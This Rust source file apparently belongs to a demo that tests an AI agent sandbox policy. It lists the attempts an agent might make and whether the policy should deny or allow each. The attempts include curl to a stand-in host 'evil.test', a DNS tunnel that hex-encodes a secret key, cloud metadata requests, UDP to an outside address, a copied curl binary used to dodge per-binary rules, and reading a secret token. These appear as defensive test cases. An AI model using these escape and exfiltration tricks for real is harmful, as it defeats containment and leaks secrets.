//! The attempts of the demo, and the policy they are made under.
//! Every name, address and file is the demo's own.

use anyhow::Result;

use super::attempt::{Attempt, Far, Wanted};
use super::outside::{EVIL, FRIENDLY, METADATA, NAME_SERVER, UDP_PORT, Zone};
use super::programs::Programs;
use super::stage::{Stage, USER};

/// A name that the policy allows to curl.
const API: &str = "api.allowed.test";
/// A name on the same address that it allows to python alone.
const SHARED: &str = "shared.test";
/// A name on the same address that it allows to one script alone.
const REPORT: &str = "report.allowed.test";
/// A name that it does not have.
const UNNAMED: &str = "evil.test";
/// What no agent may read.
const SECRET: &str = "hunter2";

/// Names with certificates.
pub const NAMES: [&str; 4] = [API, SHARED, REPORT, UNNAMED];

/// What the name server knows.
#[must_use]
pub fn zone() -> Zone {
    let friendly = [API, SHARED, REPORT].map(|name| (name, FRIENDLY));
    Zone::of(friendly.into_iter().chain([(UNNAMED, EVIL)])).and_below(UNNAMED, EVIL)
}

/// The agent's tools: a script that the policy names, a client in another language, a secret.
///
/// # Errors
/// The disk is full.
pub fn prepare(stage: &Stage, programs: &Programs, authority: &str) -> Result<()> {
    stage.write("tools/ca.pem", authority, 0o644)?;
    stage.write("tools/client.py", include_str!("client.py"), 0o644)?;
    let curl = programs.curl.display();
    let script = format!("#!/bin/sh\n{curl} -qsSv -o /dev/null {OUTCOME} http://{REPORT}/\n");
    stage.write("tools/report", &script, 0o755)?;
    stage.write("secret/token", &format!("{SECRET}\n"), 0o644)?;
    Ok(())
}

/// The policy, in NemoClaw's language.
#[must_use]
pub fn policy(stage: &Stage, programs: &Programs) -> String {
    let (tools, work) = (stage.path("tools"), stage.path("work"));
    let system: Vec<String> = ["/usr", "/bin", "/lib", "/lib64", "/etc"]
        .into_iter()
        .filter(|path| std::fs::symlink_metadata(path).is_ok_and(|found| found.is_dir()))
        .map(str::to_owned)
        .collect();
    format!(
        "\
version: 1
filesystem_policy:
  read_only: [{system}, {tools}]
  read_write: [{work}, /dev/null]
landlock: {{ compatibility: best_effort }}
process: {{ run_as_user: {USER} }}
network_policies:
  api:
    endpoints:
      - {{ host: {API}, port: 443, protocol: rest, access: full }}
    binaries:
      - {{ path: {curl} }}
  shared:
    endpoints:
      - {{ host: {SHARED}, port: 443 }}
    binaries:
      - {{ path: {python} }}
  report:
    endpoints:
      - {{ host: {REPORT}, port: 80 }}
    binaries:
      - {{ path: {tools}/report }}
",
        system = system.join(", "),
        tools = tools.display(),
        work = work.display(),
        curl = programs.curl.display(),
        python = programs.python.display(),
    )
}

/// How curl says what came of it, on a line of its own.
const OUTCOME: &str = r"-w '\n%{http_code}\n' --max-time 5";

/// The spellings of the programs that attempts use.
struct Words {
    curl: String,
    copied_curl: String,
    python: String,
    script: String,
    secret: String,
}

impl Words {
    fn of(stage: &Stage, programs: &Programs) -> Self {
        let options = format!(
            "-qsSv -o /dev/null {OUTCOME} --cacert {}",
            stage.path("tools/ca.pem").display()
        );
        let curl = programs.curl.display();
        let copy = stage.path("work/curl").display().to_string();
        let client = stage.path("tools/client.py");
        Self {
            copied_curl: format!(
                "/bin/sh -c \"cp {curl} {copy} && {copy} {options} https://{API}/\""
            ),
            curl: format!("{curl} {options}"),
            python: format!("{} -I {}", programs.python.display(), client.display()),
            script: stage.path("tools/report").display().to_string(),
            secret: stage.path("secret/token").display().to_string(),
        }
    }
}

/// All attempts; the one with a ping only where users may ping here at all.
#[must_use]
pub fn all(stage: &Stage, programs: &Programs, ping: bool) -> Vec<Attempt> {
    let words = Words::of(stage, programs);
    let mut attempts = names(&words);
    attempts.extend(binaries(&words));
    attempts.extend(addresses(&words));
    if ping {
        attempts.push(Attempt {
            title: format!("python pings {EVIL}"),
            line: format!("{} ping {EVIL}", words.python),
            plain: "answered",
            expected: "EPERM",
            far: Far::Nothing,
            record: started(&programs.python.display().to_string()),
        });
    }
    attempts.push(Attempt {
        title: "python opens a raw socket, which root alone may".to_owned(),
        line: format!("{} raw", words.python),
        plain: "EPERM",
        expected: "EPERM",
        far: Far::Nothing,
        record: started(&programs.python.display().to_string()),
    });
    attempts.push(Attempt {
        title: "cat reads a secret that no policy path covers".to_owned(),
        line: format!("/bin/cat {}", words.secret),
        plain: SECRET,
        expected: "EACCES",
        far: Far::Nothing,
        record: started("/bin/cat"),
    });
    attempts
}

fn names(words: &Words) -> Vec<Attempt> {
    let Words { curl, python, .. } = words;
    let tunnel = format!("{}.{}.{UNNAMED}", "6d792d7365637265742d".repeat(3), "6b6579".repeat(9));
    vec![
        Attempt {
            title: format!("curl → https://{API}"),
            line: format!("{curl} https://{API}/"),
            plain: "200",
            expected: "200",
            far: Far::Served(API),
            record: decided("connect", "allow", "rule", API),
        },
        Attempt {
            title: format!("curl → https://{UNNAMED}"),
            line: format!("{curl} https://{UNNAMED}/"),
            plain: "200",
            expected: "unresolved",
            far: Far::Nothing,
            record: decided("question", "deny", "unknown-name", UNNAMED),
        },
        Attempt {
            title: format!("curl → https://{SHARED}, python's, on the same address"),
            line: format!("{curl} https://{SHARED}/"),
            plain: "200",
            expected: "EPERM",
            far: Far::Lookup(SHARED),
            record: decided("connect", "deny", "other-binary", SHARED),
        },
        Attempt {
            title: format!("python → https://{SHARED}"),
            line: format!("{python} https {SHARED}"),
            plain: "200",
            expected: "200",
            far: Far::Served(SHARED),
            record: decided("connect", "allow", "rule", SHARED),
        },
        Attempt {
            title: format!("python → a DNS tunnel, straight to {NAME_SERVER}"),
            line: format!("{python} dns {NAME_SERVER} {tunnel}"),
            plain: "resolved",
            expected: "unresolved",
            far: Far::Nothing,
            record: decided("question", "deny", "unknown-name", &tunnel),
        },
    ]
}

fn binaries(words: &Words) -> Vec<Attempt> {
    let Words { copied_curl, python, script, .. } = words;
    vec![
        Attempt {
            title: format!("python → https://{API}, which is curl's"),
            line: format!("{python} https {API}"),
            plain: "200",
            expected: "EPERM",
            far: Far::Lookup(API),
            record: decided("connect", "deny", "other-binary", API),
        },
        Attempt {
            title: format!("a copy of curl → https://{API}"),
            line: copied_curl.clone(),
            plain: "200",
            expected: "EPERM",
            far: Far::Lookup(API),
            record: decided("connect", "deny", "other-binary", API),
        },
        Attempt {
            title: format!("the script `report` → http://{REPORT}"),
            line: script.clone(),
            plain: "200",
            expected: "200",
            far: Far::Served(REPORT),
            record: decided("connect", "allow", "rule", REPORT),
        },
        Attempt {
            title: "the same by hand: `sh report`".to_owned(),
            line: format!("/bin/sh {script}"),
            plain: "200",
            expected: "EPERM",
            far: Far::Lookup(REPORT),
            record: decided("connect", "deny", "other-binary", REPORT),
        },
    ]
}

fn addresses(words: &Words) -> Vec<Attempt> {
    let Words { curl, python, .. } = words;
    let (friendly, evil) = (FRIENDLY.to_string(), EVIL.to_string());
    vec![
        Attempt {
            title: format!("curl → https://{FRIENDLY}, {API}'s address"),
            line: format!("{curl} https://{FRIENDLY}/"),
            plain: "200",
            expected: "EPERM",
            far: Far::Nothing,
            record: decided("connect", "deny", "unknown-endpoint", &friendly),
        },
        Attempt {
            title: format!("curl → http://{METADATA}, the cloud's metadata"),
            line: format!("{curl} http://{METADATA}/latest/meta-data/"),
            plain: "200",
            expected: "EPERM",
            far: Far::Nothing,
            record: decided("connect", "deny", "link-local", &METADATA.to_string()),
        },
        Attempt {
            title: format!("python sends UDP to {EVIL}:{UDP_PORT}"),
            line: format!("{python} udp {EVIL} {UDP_PORT}"),
            plain: "sent",
            expected: "EPERM",
            far: Far::Nothing,
            record: decided("send", "deny", "unknown-endpoint", &evil),
        },
    ]
}

fn decided(
    action: &'static str,
    verdict: &'static str,
    reason: &'static str,
    object: &str,
) -> Wanted {
    Wanted { action, verdict, reason, object: object.to_owned() }
}

/// For what seccomp and Landlock deny: they leave no record, the program's start does.
fn started(path: &str) -> Wanted {
    decided("exec", "allow", "exec", path)
}
